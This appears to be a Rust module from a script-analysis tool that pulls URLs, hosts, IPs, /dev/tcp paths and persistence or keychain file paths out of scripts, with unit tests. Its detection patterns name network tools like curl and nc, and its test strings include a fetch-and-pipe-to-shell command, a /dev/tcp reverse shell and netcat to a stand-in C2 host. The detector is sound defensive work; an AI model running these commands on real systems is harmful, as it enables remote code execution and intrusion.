//! Where a script reaches: URLs, hosts and files that it names.

use std::sync::LazyLock;

use regex::bytes::{Regex, RegexBuilder};

/// At most this many of each.
const MAX_PLACES: usize = 32;
/// A longer one is cut.
const MAX_BYTES: usize = 512;

static URL: LazyLock<Option<Regex>> =
    LazyLock::new(|| pattern(r#"(?i)\b(?:https?|ftps?|wss?|smb|afp|sftp|ssh)://[!#$%&*+,./0-9:=?@A-Z_~-]+"#));
/// What commands take without a scheme.
static HOST: LazyLock<Option<Regex>> = LazyLock::new(|| {
    pattern(
        r#"(?i)\b(?:curl|wget|nscurl|nc|ncat|socat|ping)\b[^|;\n"']{0,200}?\s['"]?(?P<place>(?:[a-z0-9-]+\.)+[a-z]{2,}(?:[:/][^\s"'`|;<>\\)]*)?)"#,
    )
});
static ADDRESS: LazyLock<Option<Regex>> = LazyLock::new(|| {
    pattern(r"(?:^|[^0-9.A-Za-z/:@-])(?P<place>(?:[0-9]{1,3}\.){3}[0-9]{1,3}(?::[0-9]{1,5})?)(?:[^0-9.A-Za-z]|$)")
});
static DEVICE: LazyLock<Option<Regex>> = LazyLock::new(|| pattern(r"/dev/(?:tcp|udp)/[^/\s]+/[0-9]+"));
static FILE: LazyLock<Option<Regex>> = LazyLock::new(|| {
    pattern(
        r#"(?:~|/Users/[^/\s"']+)?/(?:private/)?(?:tmp|var/tmp|Users/Shared|Library/Launch(?:Agents|Daemons)|Library/Keychains)/[^\s"'`;|&<>(){}\\]+"#,
    )
});

// Without Unicode every byte is read once, whatever the text is made of.
fn pattern(text: &str) -> Option<Regex> {
    RegexBuilder::new(text).unicode(false).build().ok()
}

/// The URLs and hosts of a text, in order of the ways they are written, each once.
pub(super) fn urls(text: &str, out: &mut Vec<String>) {
    each(&URL, text, |found| add(out, found.trim_end_matches([',', '.'])));
    each(&DEVICE, text, |found| {
        if let [transport, host, port] = found.split('/').skip(2).collect::<Vec<_>>()[..] {
            add(out, &format!("{transport}://{host}:{port}"));
        }
    });
    for pattern in [&HOST, &ADDRESS] {
        each(pattern, text, |place| {
            let is_host =
                place.parse::<std::net::Ipv4Addr>().is_ok() || !place.bytes().all(|b| b.is_ascii_digit() || b == b'.');
            let is_new = is_host && !out.iter().any(|known| known.contains(place));
            if is_new && !is_file_name(place) {
                add(out, place);
            }
        });
    }
}

/// The files of a text that lie where anybody may write, start something, or hold secrets.
pub(super) fn files(text: &str, out: &mut Vec<String>) {
    each(&FILE, text, |found| add(out, found.trim_end_matches([',', '.', ':'])));
}

/// The matches of a pattern, or of its group `place`.
fn each(pattern: &Option<Regex>, text: &str, mut take: impl FnMut(&str)) {
    let Some(pattern) = pattern else { return };
    for found in pattern.captures_iter(text.as_bytes()) {
        let place = found.name("place").or_else(|| found.get(0));
        if let Some(place) = place.and_then(|place| std::str::from_utf8(place.as_bytes()).ok()) {
            take(place);
        }
    }
}

fn is_file_name(host: &str) -> bool {
    [".sh", ".zip", ".txt", ".json", ".plist", ".js", ".py", ".scpt", ".dmg", ".pkg", ".app", ".log", ".html", ".gz"]
        .iter()
        .any(|end| host.ends_with(end) && !host.contains('/'))
}

fn add(out: &mut Vec<String>, place: &str) {
    let place = &place[..place.floor_char_boundary(MAX_BYTES)];
    if !place.is_empty() && out.len() < MAX_PLACES && !out.iter().any(|known| known == place) {
        out.push(place.to_owned());
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn places(text: &str) -> (Vec<String>, Vec<String>) {
        let (mut found, mut paths) = (Vec::new(), Vec::new());
        urls(text, &mut found);
        files(text, &mut paths);
        (found, paths)
    }

    #[test]
    fn urls_hosts_and_files_are_found_as_they_are_written() {
        for (text, wanted, files) in [
            (
                "do shell script \"curl -s https://c2.example.org/a?b=1 -o /tmp/x\"",
                &["https://c2.example.org/a?b=1"][..],
                &["/tmp/x"][..],
            ),
            ("curl -s c2.example.org/x | sh", &["c2.example.org/x"], &[]),
            ("sh &>/dev/tcp/203.0.113.9/4444", &["tcp://203.0.113.9:4444"], &[]),
            ("nc 203.0.113.9 4444", &["203.0.113.9"], &[]),
            ("$.NSURL.URLWithString('http://203.0.113.9:8080/a')", &["http://203.0.113.9:8080/a"], &[]),
            ("curl -o page.html https://a.example/", &["https://a.example/"], &[]),
            ("launchctl load ~/Library/LaunchAgents/x.plist", &[], &["~/Library/LaunchAgents/x.plist"]),
            ("version 1.2.3.4.5 of com.apple.finder", &[], &[]),
        ] {
            let (found, paths) = places(text);
            assert_eq!(found, wanted, "{text}");
            assert_eq!(paths, files, "{text}");
        }
        let many: String = (0..1000).map(|n| format!("https://h{n}.example ")).collect();
        assert_eq!(places(&many).0.len(), MAX_PLACES);
    }
}
